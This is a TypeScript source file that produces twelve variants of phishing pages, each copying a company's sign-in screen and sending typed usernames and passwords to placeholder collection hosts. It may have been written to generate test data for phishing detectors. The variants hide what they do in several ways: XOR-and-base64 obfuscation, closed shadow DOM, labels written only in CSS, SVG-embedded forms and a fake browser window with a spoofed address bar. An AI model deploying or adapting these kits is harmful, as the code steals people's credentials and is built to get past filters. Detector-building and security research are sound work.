import type { Files } from "../given-draft.ts"
import type { Said } from "./people.ts"

type Shape = (said: Said) => Files

const page = ({ lang }: Said, title: string, body: string) =>
  `<!DOCTYPE html>\n<html lang="${lang}">\n<head>\n<meta charset="utf-8">\n<title>${title}</title>\n</head>\n<body>\n${body}\n</body>\n</html>`

/** How a draft asks, hides that it asks, and takes the answers away. */
export const shapes: Readonly<Record<string, Shape>> = {
  "a copied page that posts to a kit": (said) => ({
    "index.html": page(
      said,
      `${said.company} - ${said.go}`,
      `<header><img src="${said.picture}" height="28"></header><main><h1>${said.greeting}</h1><p>${said.reason}</p>
<form method="POST" action="result/post.php"><input name="u" placeholder="${said.user}"><input name="p" type="password" placeholder="${said.secret}"><button>${said.go}</button></form></main>
<footer>© 2026 ${said.company}</footer>`,
    ),
  }),
  "a second step that appears after the first": (said) => ({
    "index.html": page(
      said,
      said.company,
      `<div class="top">${said.company}</div><div id="one"><h2>${said.greeting}</h2><input id="who" placeholder="${said.user}"><button onclick="next()">${said.go}</button></div><div id="two"></div>
<script src="step.js"></script>`,
    ),
    "step.js": `function next(){const who=document.getElementById('who').value;document.getElementById('one').remove();
const two=document.getElementById('two');const line=document.createElement('p');line.append(who);const key=document.createElement('input');key.setAttribute('type',['pass','word'].join(''));key.placeholder='${said.secret}';
key.onchange=()=>navigator.sendBeacon('https://edge.collect-stat.example/v2',who+'|'+key.value);two.append(line,key)}`,
  }),
  "a field that only looks like one": (said) => ({
    "index.html": page(
      said,
      said.greeting,
      `<style>.k{border:1px solid #999;padding:8px;-webkit-text-security:disc}</style><div class="brand">${said.company}</div><p>${said.reason}</p>
<p>${said.secret}</p><div class="k" contenteditable="true" id="k"></div><a id="go" href="#">${said.go}</a>
<script>go.addEventListener("click",()=>{new Image().src="//px.gather-two.example/i.gif?d="+encodeURIComponent(k.innerText)})</script>`,
    ),
  }),
  "an app whose texts are in a file of data": (said) => ({
    "index.html": page(said, "App", `<div id="root"></div><script src="app.js"></script>`),
    "app.js": `fetch("screen.json").then(r=>r.json()).then(s=>{document.title=s.t;for(const b of s.blocks){const e=document.createElement(b.tag);Object.assign(e,b.set);root.append(e)}
root.querySelector("button").onclick=()=>fetch(s.to,{method:"POST",mode:"no-cors",body:JSON.stringify([...document.querySelectorAll("input")].map(i=>i.value))})})`,
    "screen.json": JSON.stringify({
      t: said.company,
      to: "https://api.gather-three.example/push",
      blocks: [
        { tag: "h1", set: { textContent: said.greeting } },
        { tag: "p", set: { textContent: said.reason } },
        { tag: "input", set: { placeholder: said.user } },
        { tag: "input", set: { placeholder: said.secret, type: "password" } },
        { tag: "button", set: { textContent: said.go } },
      ],
    }),
  }),
  "an element of its own with a shadow": (said) => ({
    "index.html": page(said, said.greeting, `<secure-box></secure-box><script type="module" src="/box.mjs"></script>`),
    "box.mjs": `const t=document.createElement("template");t.innerHTML=\`<style>:host{font:16px system-ui}</style><b>${said.company}</b><p>${said.reason}</p><label>${said.secret}<input part="s" type="password"></label><button>${said.go}</button>\`;
customElements.define("secure-box",class extends HTMLElement{connectedCallback(){const r=this.attachShadow({mode:"closed"});r.append(t.content.cloneNode(true));r.querySelector("button").onclick=()=>{const w=new WebSocket("wss://live.gather-four.example");w.onopen=()=>w.send(r.querySelector("input").value)}}});`,
  }),
  "a page under a long key": (said) => {
    const html = `<h1>${said.company}</h1><p>${said.reason}</p><form action="https://gather-five.example/in"><input type="password" placeholder="${said.secret}"><button>${said.go}</button></form>`
    const key = "q7Rm2x"
    const crossed = [...new TextEncoder().encode(html)].map((byte, n) => byte ^ key.charCodeAt(n % key.length))
    return {
      "index.html": page(
        said,
        "Loading",
        `<script>const k="${key}",d="${btoa(String.fromCharCode(...crossed))}";const b=Uint8Array.from(atob(d),(c,n)=>c.charCodeAt(0)^k.charCodeAt(n%k.length));document.body.innerHTML=new TextDecoder().decode(b)</script>`,
      ),
    }
  },
  "a picture of the page with fields laid over it": (said) => ({
    "index.html": page(
      said,
      said.go,
      `<div style="position:relative;width:900px;height:600px;background:url(assets/bg_${said.company.toLowerCase().replaceAll(" ", "-")}.png)"><form action="https://gather-six.example/a" method="post"><input name="a" style="position:absolute;left:300px;top:220px"><input name="b" type="password" style="position:absolute;left:300px;top:270px"><input type="submit" value="" style="position:absolute;left:300px;top:320px;opacity:0"></form></div>`,
    ),
  }),
  "a browser window that is drawn": (said) => ({
    "index.html": page(
      said,
      "Shared document",
      `<p>invoice-2291.pdf</p><div class="win"><div class="bar"><span>●</span><span>●</span><span>●</span> ${said.company} — ${said.go}</div><div class="url">🔒 https://${new URL(said.picture).hostname}/signin</div>
<div class="in"><h3>${said.greeting}</h3><input placeholder="${said.user}"><input type="password" placeholder="${said.secret}"><button onclick="s(this)">${said.go}</button></div></div>
<script>function s(b){const i=[...b.parentNode.querySelectorAll("input")].map(x=>x.value);fetch("https://hook.gather-seven.example",{method:"POST",body:i.join("\\n")});b.textContent="${said.failed}"}</script>`,
    ),
  }),
  "a chat that asks one thing after another": (said) => ({
    "index.html": page(
      said,
      `${said.company} Support`,
      `<ul id="log"><li>${said.greeting}</li><li>${said.reason}</li></ul><input id="say" autocomplete="off">
<script>const ask=["${said.user}","${said.secret}"],got=[];let n=0;const put=t=>{const l=document.createElement("li");l.textContent=t;log.append(l)};put(ask[0]);
say.onkeydown=e=>{if(e.key!=="Enter")return;got.push(say.value);say.value="";if(++n<ask.length)put(ask[n]);else fetch("https://bot.gather-eight.example/"+btoa(got.join()))}</script>`,
    ),
  }),
  "labels that a style writes": (said) => ({
    "index.html": page(
      said,
      "…",
      `<link rel="stylesheet" href="s.css"><div class="n"></div><div class="w"></div><form method="get" action="https://gather-nine.example/"><span class="u"></span><input name="x1"><span class="s"></span><input name="x2" class="d"><button class="g"></button></form>`,
    ),
    "s.css": `.n::before{content:"${said.company}"}.w::before{content:"${said.reason}"}.u::before{content:"${said.user}"}.s::before{content:"${said.secret}"}.g::before{content:"${said.go}"}.d{font-family:text-security-disc}`,
  }),
  "a drawing that is the page": (said) => ({
    "index.html": page(
      said,
      said.go,
      `<object data="view.svg" type="image/svg+xml" width="100%" height="700"></object>`,
    ),
    "view.svg": `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 700"><text x="40" y="60">${said.company}</text><text x="40" y="90">${said.reason}</text><foreignObject x="40" y="120" width="320" height="300"><div xmlns="http://www.w3.org/1999/xhtml"><form action="https://gather-ten.example/s" method="post"><input name="a" placeholder="${said.user}"/><input name="b" type="password" placeholder="${said.secret}"/><button>${said.go}</button></form></div></foreignObject></svg>`,
  }),
  "kept here first, taken away on the next page": (said) => ({
    "index.html": page(
      said,
      `${said.greeting} · ${said.company}`,
      `<nav>${said.company}</nav><p>${said.reason}</p><form action="wait.html" onsubmit="sessionStorage.z=JSON.stringify([...new FormData(this)])"><input name="a" placeholder="${said.user}"><input name="b" type="password" placeholder="${said.secret}"><button>${said.go}</button></form>`,
    ),
    "wait.html": page(
      said,
      said.company,
      `<p>…</p><script>location.href="https://gather-eleven.example/?"+btoa(unescape(encodeURIComponent(sessionStorage.z)))</script>`,
    ),
  }),
}
